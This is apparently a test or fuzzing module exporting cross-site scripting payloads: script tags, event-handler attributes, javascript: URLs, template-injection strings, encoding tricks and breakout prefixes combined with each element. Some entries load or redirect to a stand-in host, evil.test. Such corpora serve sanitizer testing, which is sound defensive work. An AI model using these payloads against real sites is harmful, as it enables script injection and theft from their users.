/** Text that would run as a script wherever it were taken for markup, an address, a template or a style. */

/** How what stands around a text would be left: an attribute, an element whose content is text, a comment, a script. */
const ways = ['', '">', "'>", '`>', '</textarea>', '</title>', '</style>', '</script>', '-->', '</svg>'];

export const elements = [
  '<script>alert(1)</script>',
  '<img src=x onerror=alert(1)>',
  '<svg/onload=alert(1)>',
  '<iframe src=javascript:alert(1)>',
  '<body onload=alert(1)>',
  '<input autofocus onfocus=alert(1)>',
  '<details open ontoggle=alert(1)>',
  '<video><source onerror=alert(1)>',
  '<a href=javascript:alert(1)>x</a>',
  '<style>@import"//evil.test"</style>',
  '<form><button formaction=javascript:alert(1)>',
];

const others = [
  'javascript:alert(1)',
  ' \u0001javascript:alert(1)',
  'JaVaScRiPt:alert(1)',
  'data:text/html,<script>alert(1)</script>',
  '" onmouseover="alert(1)" x="',
  "' onfocus='alert(1)' autofocus '",
  '{{constructor.constructor("alert(1)")()}}',
  '$\u007balert(1)}',
  '<%= alert(1) %>',
  '&lt;img src=x onerror=alert(1)&gt;',
  '&#60;script&#62;alert(1)&#60;/script&#62;',
  '<scr<script>ipt>alert(1)</scr</script>ipt>',
  '<IMG """><SCRIPT>alert(1)</SCRIPT>">',
  '<math><mi xlink:href="javascript:alert(1)">',
  '<template><img src=x onerror=alert(1)></template>',
  '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
  '<base href="https://evil.test/">',
  '<meta http-equiv=refresh content="0;url=//evil.test">',
  '<link rel=stylesheet href=//evil.test/x.css>',
  '<object data=javascript:alert(1)>',
  '<embed src=javascript:alert(1)>',
  '\u202e<img src=x onerror=alert(1)>',
  '＜script＞alert(1)＜/script＞',
  '<slot name=x onslotchange=alert(1)>',
];

export const payloads = [...ways.flatMap((way) => elements.map((element) => way + element)), ...others];
